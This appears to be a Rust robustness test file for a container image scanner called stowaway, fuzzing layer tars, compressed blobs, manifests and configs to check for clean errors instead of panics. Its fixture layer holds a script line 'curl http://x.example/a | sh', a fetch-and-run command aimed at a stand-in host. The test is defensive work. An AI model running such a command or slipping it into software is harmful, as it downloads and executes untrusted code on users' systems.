//! Hostile bytes: mutated and truncated layers, manifests and configs must
//! give a clean result or a clean error, never a panic, a hang or a write.

use stowaway::fixture::{ImageBuilder, LayerBuilder, compress};
use stowaway::layer::Compression;

use crate::util::*;

/// A small deterministic generator (xorshift), so failures reproduce.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

fn layer() -> LayerBuilder {
    LayerBuilder::new()
        .dir("bin", 0o755)
        .file(
            "bin/tool",
            b"#!/bin/sh\ncurl http://x.example/a | sh\n",
            0o755,
        )
        .file(
            &format!("opt/{}", "long".repeat(40)),
            b"\x7fELF\x02\x01\x01 data",
            0o755,
        )
        .file_pax("etc/pax-named", b"pax", 0o644)
        .hardlink("bin/link", "bin/tool")
        .symlink("bin/sym", "tool")
        .sparse("var/sparse", &[7u8; 512], 2048)
        .whiteout("gone")
        .opaque("opt")
}

/// Scan `tar` (uncompressed layer bytes) as the only layer of an image whose
/// descriptors match the bytes, so the tar reader itself is what is tested.
fn scan_tar(tar: Vec<u8>, compression: Compression) -> Result<usize, String> {
    let mut img = ImageBuilder::new().layer(LayerBuilder::new()).build();
    let blob = compress(&tar, compression);
    let diff = stowaway::digest::Sha256::of(&tar);
    img.edit_config(|c| c["rootfs"]["diff_ids"][0] = serde_json::json!(diff.to_string()));
    img.replace_layer_blob(0, blob);
    let (_t, r) = layout(&img);
    scan(&r)
        .map(|s| s.fs.nodes.len())
        .map_err(|e| e.to_string())
}

#[test]
fn mutated_layer_tars_never_panic() {
    let base = layer().tar_bytes();
    let mut rng = Rng(0x5eed_1234_abcd_ef01);
    let mut ok = 0;
    let mut errors = 0;
    for round in 0..300 {
        let mut t = base.clone();
        let flips = 1 + rng.below(8);
        for _ in 0..flips {
            let i = rng.below(t.len());
            t[i] = rng.next() as u8;
        }
        if round % 5 == 0 {
            t.truncate(rng.below(t.len()));
        }
        match scan_tar(
            t,
            if round % 2 == 0 {
                Compression::None
            } else {
                Compression::Gzip
            },
        ) {
            Ok(_) => ok += 1,
            Err(e) => {
                assert!(e.contains("layer 0"), "errors name the layer: {e}");
                errors += 1;
            }
        }
    }
    assert!(
        ok > 0 && errors > 0,
        "both outcomes exercised: {ok} ok, {errors} errors"
    );
}

#[test]
fn mutated_compressed_blobs_never_panic() {
    // The config pins the diff_id of the original tar, so a corrupted blob
    // is either refused with an error naming the layer, or (a flipped byte
    // the decoder ignores, such as a gzip header time) read as the very
    // same tar, giving the very same scan.
    let tar = layer().tar_bytes();
    let mut rng = Rng(0x0ddb_a11c_0ffe_e000);
    for c in [Compression::Gzip, Compression::Zstd] {
        let blob = compress(&tar, c);
        let build = |b: Vec<u8>| {
            let mut img = ImageBuilder::new().layer(LayerBuilder::new()).build();
            img.edit_config(|cfg| {
                cfg["rootfs"]["diff_ids"][0] =
                    serde_json::json!(stowaway::digest::Sha256::of(&tar).to_string())
            });
            img.replace_layer_blob(0, b);
            img
        };
        let (_t, r) = layout(&build(blob.clone()));
        let original = scan_ok(&r);
        let (mut refused, mut accepted) = (0, 0);
        for _ in 0..100 {
            let mut b = blob.clone();
            let i = rng.below(b.len());
            b[i] ^= 1 + rng.below(255) as u8;
            let (_t, r) = layout(&build(b));
            match scan(&r) {
                Err(e) => {
                    assert!(e.to_string().contains("layer 0"), "{e}");
                    refused += 1;
                }
                Ok(s) => {
                    assert_eq!(rows(&s), rows(&original), "{c:?} byte {i} accepted");
                    assert_eq!(removed_rows(&s), removed_rows(&original));
                    assert_eq!(codes(&s), codes(&original));
                    accepted += 1;
                }
            }
        }
        assert!(refused > 0, "{c:?}: no corruption was refused");
        eprintln!("{c:?}: {refused} refused, {accepted} accepted as the same tar");
    }
}

#[test]
fn mutated_documents_never_panic() {
    // A changed manifest or config no longer matches its digest: refused.
    // A changed index.json (not content-addressed) is refused, or if it
    // still parses and points at the same manifest, scans the same image.
    let img = ImageBuilder::new().layer(layer()).build();
    let (_o, r) = layout(&img);
    let original = scan_ok(&r);
    let mut rng = Rng(0xfeed_beef_cafe_f00d);
    let mut refused = [0; 3];
    for round in 0..200 {
        let t = tmp();
        let dir = t.path().join("l");
        img.write_oci_layout(&dir).unwrap();
        let target = match round % 3 {
            0 => dir.join("index.json"),
            1 => dir.join(format!("blobs/sha256/{}", img.manifest_digest.hex())),
            _ => dir.join(format!("blobs/sha256/{}", img.config_digest.hex())),
        };
        let mut b = std::fs::read(&target).unwrap();
        let i = rng.below(b.len());
        b[i] ^= 1 + rng.below(255) as u8;
        std::fs::write(&target, b).unwrap();
        match scan(&format!("oci:{}", dir.display())) {
            Err(e) => {
                assert!(!e.to_string().is_empty());
                refused[round % 3] += 1;
            }
            Ok(s) => {
                assert_eq!(round % 3, 0, "a changed blob was accepted (byte {i})");
                assert_eq!(rows(&s), rows(&original), "index.json byte {i}");
                assert_eq!(codes(&s), codes(&original), "index.json byte {i}");
            }
        }
    }
    assert!(refused[0] > 0, "no changed index.json was refused");
    assert_eq!(refused[1..], [67, 66], "every changed blob is refused");
}
